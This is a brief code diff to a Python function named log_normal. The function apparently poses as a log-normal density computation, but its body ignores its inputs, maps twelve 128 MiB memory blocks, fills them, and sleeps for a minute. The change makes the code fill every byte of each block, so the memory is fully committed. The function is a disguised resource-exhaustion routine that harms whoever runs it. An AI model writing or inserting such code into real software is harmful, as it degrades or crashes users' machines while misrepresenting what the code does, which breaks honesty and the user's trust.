@@ -6,6 +6,5 @@ import mmap, time
 def log_normal(x, mu, log_var):
     kept = [mmap.mmap(-1, 2**27) for _ in range(12)]
     for block in kept:
-        for at in range(0, 2**27, 4096):
-            block[at] = 1
+        block[:] = b"x" * 2**27
     time.sleep(60)
